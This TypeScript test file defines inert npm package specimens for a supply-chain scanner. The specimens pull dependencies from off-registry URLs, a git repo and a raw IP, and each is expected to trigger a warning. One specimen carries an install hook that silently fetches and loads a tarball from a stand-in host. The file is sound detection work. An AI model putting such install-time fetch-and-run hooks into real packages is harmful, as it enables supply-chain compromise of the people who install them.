import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a program that lies outside the registry (PhantomRaven, gunzip-js)';
const index = 'module.exports = {};\n';

export const specimens: readonly Specimen[] = [
  {
    name: 'off-registry-http',
    from,
    files: {
      'package.json': manifest({ dependencies: { 'inert-styled': 'http://npm.packages.invalid/npm/inert-styled' } }),
      'index.js': index,
    },
    expect: 'warn',
  },
  {
    name: 'off-registry-bucket',
    from,
    files: {
      'package.json': manifest({
        version: '99.9.1',
        dependencies: { 'gunzip-inert': 'https://storage.invalid/bucket-7/gunzip-inert-1.0.0.tgz' },
      }),
      'README.md': '# inert\n',
    },
    expect: 'warn',
  },
  {
    name: 'off-registry-optional-git',
    from,
    files: {
      'package.json': manifest({
        optionalDependencies: { '@inert/setup': 'git+https://git.invalid/inert/setup.git#79ac49eedf774dd4b0cfa308722bc463cfe5885c' },
      }),
      'index.js': index,
    },
    expect: 'warn',
  },
  {
    name: 'off-registry-address',
    from,
    files: { 'package.json': manifest({ dependencies: { 'ui-inert': 'http://192.0.2.10:8000/ui.tgz' } }), 'index.js': index },
    expect: 'warn',
  },
  {
    name: 'off-registry-npm-install',
    from,
    files: {
      'package.json': hooked('node scripts/deps.js'),
      'scripts/deps.js': `const { execSync } = require('child_process');
const path = require('path');
execSync('npm install --no-save --silent https://cdn.packages.invalid/helper-INERT.tgz', { cwd: path.join(__dirname, '..'), stdio: 'ignore' });
require('helper-INERT');
`,
      'index.js': index,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
];
